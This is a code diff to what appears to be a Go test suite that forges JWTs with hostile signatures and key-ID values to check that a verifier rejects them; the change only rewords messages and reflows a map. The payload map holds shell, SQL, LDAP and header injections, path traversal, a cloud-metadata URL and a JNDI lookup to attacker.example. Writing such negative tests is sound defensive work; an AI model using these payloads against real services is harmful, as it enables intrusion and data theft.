@@ -177,11 +177,11 @@ func signatureAttacks() []Attack {
 		"DER of zeros":              func([]byte) []byte { return asDER(make([]byte, 64)) },
 		"an uncompressed point's 4": func(s []byte) []byte { return append([]byte{4}, s...) },
 	} {
-		l.token("ES256, "+name, "r and s lie between 1 and the order, and have 32 bytes each.", withSignature(s)).from("RFC 7518, section 3.4; CVE-2022-21449").by("ES256")
+		l.token("ES256, "+name, "r and s are between 1 and the order, and have 32 bytes each.", withSignature(s)).from("RFC 7518, section 3.4; CVE-2022-21449").by("ES256")
 	}
 	sortByName(l.list) // maps have no order
 	l.token("EdDSA, S not reduced", "S is below the order of the group, so that a token has one encoding.", withSignature(unreduced)).from("RFC 8032, section 8.4; CVE-2020-36843").by("EdDSA")
-	l.token("EdDSA, R and S zero but for R = 1", "The neutral element signs nothing.", withSignature(func([]byte) []byte { return append([]byte{1}, make([]byte, 63)...) })).from("RFC 8032, section 5.1.7").by("EdDSA")
+	l.token("EdDSA, R and S zero but for R = 1", "The neutral element is not a signature.", withSignature(func([]byte) []byte { return append([]byte{1}, make([]byte, 63)...) })).from("RFC 8032, section 5.1.7").by("EdDSA")
 	return l.list
 }
 
@@ -193,26 +193,13 @@ func keyIDAttacks() []Attack {
 	}
 	l.token("array of the right one", "kid is a string.", func(i *devissuer.Issuer) string { return i.MustToken(devissuer.Header("kid", []string{i.KeyID()})) })
 	for name, kid := range map[string]string{
-		"of 257 bytes":            strings.Repeat("k", 257),
-		"path":                    "../../../../../../dev/null",
-		"absolute path":           "/proc/sys/kernel/randomize_va_space",
-		"path and NUL":            "../../../../../../dev/null\x00.pem",
-		"SQL":                     "x' UNION SELECT 'secret' --",
-		"LDAP":                    "*)(uid=*))(|(uid=*",
-		"shell":                   "$(touch pwned)|/bin/sh",
-		"format verbs":            "%s%n%x",
-		"log lookup":              "${jndi:ldap://attacker.example/x}",
-		"address":                 attackerURL + "/key.pem",
-		"address of the metadata": "http://169.254.169.254/latest/meta-data/",
-		"header injection":        "x\r\nSet-Cookie: session=evil\r\n\r\n<html>",
-		"log injection":           "x\nlevel=INFO msg=\"sso: authenticated\" subject=root",
-		"terminal escapes":        "\x1b[2J\x1b]0;owned\x07",
-		"quotes in a challenge":   `x", error="none", realm="evil`,
-		"right-to-left override":  "\u202egnitirw",
-		"NUL":                     "\x00",
-		"space":                   " ",
-		"prototype":               "__proto__",
-		"keys of a set":           "keys.0",
+		"of 257 bytes": strings.Repeat("k", 257), "path": "../../../../../../dev/null", "absolute path": "/proc/sys/kernel/randomize_va_space",
+		"path and NUL": "../../../../../../dev/null\x00.pem", "SQL": "x' UNION SELECT 'secret' --", "LDAP": "*)(uid=*))(|(uid=*",
+		"shell": "$(touch pwned)|/bin/sh", "format verbs": "%s%n%x", "log lookup": "${jndi:ldap://attacker.example/x}",
+		"address": attackerURL + "/key.pem", "address of the metadata": "http://169.254.169.254/latest/meta-data/",
+		"header injection": "x\r\nSet-Cookie: session=evil\r\n\r\n<html>", "log injection": "x\nlevel=INFO msg=\"sso: authenticated\" subject=root",
+		"terminal escapes": "\x1b[2J\x1b]0;owned\x07", "quotes in a challenge": `x", error="none", realm="evil`,
+		"right-to-left override": "\u202egnitirw", "NUL": "\x00", "space": " ", "prototype": "__proto__", "keys of a set": "keys.0",
 	} {
 		l.token(name, "kid is only looked up among the provider's keys, and is escaped in the log.", func(i *devissuer.Issuer) string {
 			return forged(i, devissuer.Header("kid", kid))
